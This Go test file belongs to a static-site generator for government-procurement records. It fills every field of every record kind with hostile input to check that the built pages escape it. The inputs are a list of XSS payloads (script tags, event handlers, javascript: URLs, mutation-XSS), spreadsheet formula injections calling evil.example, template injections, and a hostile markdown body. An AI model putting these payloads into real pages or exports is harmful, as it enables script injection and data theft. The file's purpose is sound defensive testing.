package build_test

import (
	"fmt"
	"io/fs"
	"maps"
	"regexp"
	"slices"
	"strings"
	"testing"
	"testing/fstest"

	"mingshi/generator/build"
	"mingshi/generator/diag"
	"mingshi/generator/record"
)

// scripts are texts that would run in a page that does not escape them, or in a
// spreadsheet. %d is filled in, so that it is known whose script ran.
var scripts = []string{
	`"><script>pwned(%d)</script>`,
	`<img src=x onerror=pwned(%d)>`,
	`<svg/onload=pwned(%d)>`,
	`' onmouseover='pwned(%d)' autofocus onfocus='pwned(%[1]d)' x='`,
	`</title></textarea></style></script><script>pwned(%d)</script>`,
	`javascript:pwned(%d)//`,
	`{{pwned %d}}{{.}}`,
	`=HYPERLINK("https://evil.example/%d","x")`,
	`@SUM(1+%d)|cmd`,
	`-->]]><script>pwned(%d)</script><![CDATA[<!--`,
	"`${pwned(%d)}`\\u003cscript\\u003e",
	`<iframe srcdoc="&lt;script&gt;parent.pwned(%d)&lt;/script&gt;">`,
	`<math><mtext><table><mglyph><style><img src=x onerror=pwned(%d)>`,
	`#"><base href="https://evil.example/%d/">`,
}

// A filler writes a record of a kind in which every field of its table has a value,
// so that a field that is added tomorrow is attacked too.
type filler struct {
	kind   *record.Kind
	set    map[string]string // by path: what stands there instead, as TOML
	codes  func(list string) string
	texts  []string // what was written into texts
	fields []string // the paths written
	lines  map[string]int
	b      strings.Builder
}

const hostileID = "533103-2026-9999"

// idOf is the id that the filled record of a kind has.
func idOf(kind string) string {
	switch kind {
	case "plan":
		return hostileID
	case "result":
		return hostileID + "-r1"
	case "evaluation":
		return hostileID + "-e1"
	case "catalog":
		return "guiding-533103-2026"
	}
	return "hostile-" + kind
}

// file writes the record as a file of a portal.
func (f *filler) file() (name, text string) {
	var folder, ext = "data/", ".toml"
	if f.kind.Prose {
		folder, ext = "content/", ".md"
		f.b.WriteString("+++\n")
	}
	f.group(f.kind.Fields, "")
	if f.kind.Prose {
		f.b.WriteString("+++\n\n" + hostileBody)
	}
	return folder + f.kind.Folder + "/" + idOf(f.kind.Name) + ext, f.b.String()
}

// skipped are the fields that would take the record, or part of it, off the pages.
var skipped = []string{"withdrawn", "cancelled", "termination", "suspensions", "redactions", "renamed_to", "merged_into"}

func (f *filler) group(fields []record.Field, where string) {
	var tables []record.Field
	for _, field := range fields {
		if slices.Contains(skipped, field.Key) {
			continue
		}
		if field.Nested() {
			tables = append(tables, field)
			continue
		}
		at := where + field.Key
		value, ok := f.set[at]
		if value == "-" {
			continue
		}
		if !ok {
			value = f.value(&field)
			if field.Many {
				value = "[" + value + "]"
			}
		}
		f.fields = append(f.fields, at)
		f.lines[at] = 1 + strings.Count(f.b.String(), "\n")
		fmt.Fprintf(&f.b, "%s = %s\n", field.Key, value)
	}
	for _, field := range tables {
		brackets := [2]string{"[", "]"}
		if field.Type == record.Rows {
			brackets = [2]string{"[[", "]]"}
		}
		if f.set[where+field.Key] == "-" {
			continue
		}
		fmt.Fprintf(&f.b, "\n%s%s%s\n", brackets[0], where+field.Key, brackets[1])
		f.group(field.Fields, where+field.Key+".")
	}
}

// value is a valid value of a field, hostile where text is free.
func (f *filler) value(field *record.Field) string {
	switch field.Type {
	case record.ID:
		return quoted(idOf(f.kind.Name))
	case record.Ref:
		return quoted(idOf(field.Ref))
	case record.ItemCode:
		return quoted("K9")
	case record.Enum:
		return quoted(f.codes(field.Codes))
	case record.Flag:
		return "true"
	case record.Int:
		if strings.HasSuffix(field.Key, "year") {
			return "2026"
		}
		return "1"
	case record.Decimal:
		return "100"
	case record.Amount:
		return `"1万元"`
	case record.Day:
		return "2026-03-04"
	case record.Moment:
		return "2026-03-04T09:00:00"
	case record.YearMonth:
		return `"2026-03"`
	case record.CreditCode:
		return `"52999999MJ0000A112"`
	case record.Category:
		return `"C05010400"`
	case record.File:
		return `"hostile.pdf"`
	case record.Link:
		return quoted(fmt.Sprintf(`https://evil.example/%d/"><script>pwned(%[1]d)</script>`, len(f.texts)))
	}
	return quoted(f.attack(field))
}

// attack is the next script, cut if the field takes less.
func (f *filler) attack(field *record.Field) string {
	if field.Key == "code" { // of an item of a catalogue
		return "K9"
	}
	n := len(f.texts)
	text := fmt.Sprintf(scripts[n%len(scripts)], n)
	if i := strings.Index(text, "%!(EXTRA"); i >= 0 {
		text = text[:i]
	}
	if r := []rune(text); len(r) > field.MaxLength() {
		text = string(r[:field.MaxLength()])
	}
	if field.Type == record.Party {
		text = "甲" + text // a name, and not an id
	}
	f.texts = append(f.texts, text)
	return text
}

func quoted(s string) string { return `"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(s) + `"` }

const hostileBody = "<script>pwned(900)</script>\n\n<img src=x onerror=pwned(901)> [a](https://evil.example/\"onclick=pwned(902))\n\n" +
	"[b](https://evil.example/' onerror='pwned(903))\n\n| a |\n|:-:|\n| <td onclick=pwned(904)> |\n\n```js\" onclick=\"pwned(905)\n</code><script>pwned(906)</script>\n```\n"

// filled is a filler of a kind for a portal that has its code lists.
func filled(k *record.Kind, codes record.Codes, set map[string]string) *filler {
	return &filler{kind: k, set: set, lines: map[string]int{}, codes: func(list string) string {
		if c := codes[list]; c != nil && len(c.Values) > 0 {
			return c.Values[0].Name
		}
		return "?"
	}}
}

// codesOf are the code lists of the small portal.
func codesOf(t *testing.T) record.Codes {
	t.Helper()
	set, _, err := record.Load(t.Context(), archive(t, "testdata/portal.txtar"), 1)
	if err != nil {
		t.Fatal(err)
	}
	return set.Codes
}

// settled are fields that must agree with others, or contradict them. A kind may
// have a second record, of what the first cannot have.
var settled = map[string]map[string]string{
	"org":          {"roles": `["财政部门", "购买主体", "承接主体"]`, "provider_kind": `"社会组织"`},
	"result":       {"renewal_of": "-", "framework": "-", "addition_to": "-", "award.winners": "-"},
	"result/2":     {"id": `"533103-2026-9999-r2"`, "renewal_of": "-", "framework": "-", "addition_to": "-", "round": "2", "lot_budget": "-", "award.provider": "-", "award.partners": "-", "contract": "-"},
	"evaluation":   {"purchaser": "-", "result": "-"},
	"evaluation/2": {"id": `"533103-2026-9999-e2"`, "purchaser": "-", "plan": "-"},
}

// schemaPortal is a portal with a filled record of every kind. What a rule refuses
// is as good as escaped: those fields are left out, and must be few.
func schemaPortal(t *testing.T) (portal fstest.MapFS, written, refused []string) {
	t.Helper()
	codes := codesOf(t)
	leave := map[string]map[string]string{}
	for range 20 {
		portal, written = archive(t, "testdata/portal.txtar"), nil
		portal["content/attachments/hostile.pdf"] = &fstest.MapFile{Data: []byte("%PDF-1.4\n"), Mode: 0o644}
		kinds := map[string]string{}
		for _, k := range record.Kinds() {
			for _, which := range []string{k.Name, k.Name + "/2"} {
				if which != k.Name && settled[which] == nil {
					continue
				}
				if leave[which] == nil {
					leave[which] = maps.Clone(settled[which])
				}
				f := filled(k, codes, leave[which])
				name, text := f.file()
				if which != k.Name {
					name = strings.Replace(name, ".toml", "2.toml", 1)
				}
				portal[name] = &fstest.MapFile{Data: []byte(text), Mode: 0o644}
				kinds[name] = which
				for _, at := range f.fields {
					written = append(written, which+"."+at)
				}
			}
		}
		_, list, err := build.Model(t.Context(), options(t, portal, today))
		if err != nil {
			t.Fatal(err)
		}
		again := false
		for _, d := range list {
			if d.Level != diag.Error {
				continue
			}
			kind, at := kinds[d.File], index.ReplaceAllString(d.Path, "")
			if kind == "" || at == "" || leave[kind][at] != "" {
				t.Fatalf("the filled portal has an error that no field explains: %v %s", d, d.Path)
			}
			if leave[kind] == nil {
				leave[kind] = map[string]string{}
			}
			leave[kind][at] = "-"
			refused = append(refused, kind+"."+at)
			again = true
		}
		if !again {
			return portal, written, refused
		}
	}
	t.Fatal("the filled portal cannot be made valid")
	return nil, nil, nil
}

var index = regexp.MustCompile(`\[\d+\]`)

// errorsIn are the errors in a file of a portal, with their places.
func errorsIn(t *testing.T, portal fs.FS, name string) diag.List {
	t.Helper()
	_, list, err := record.Load(t.Context(), portal, 1)
	if err != nil {
		t.Fatal(err)
	}
	record.Locate(portal, list)
	return slices.DeleteFunc(list, func(d diag.Diagnostic) bool { return d.Level != diag.Error || d.File != name })
}
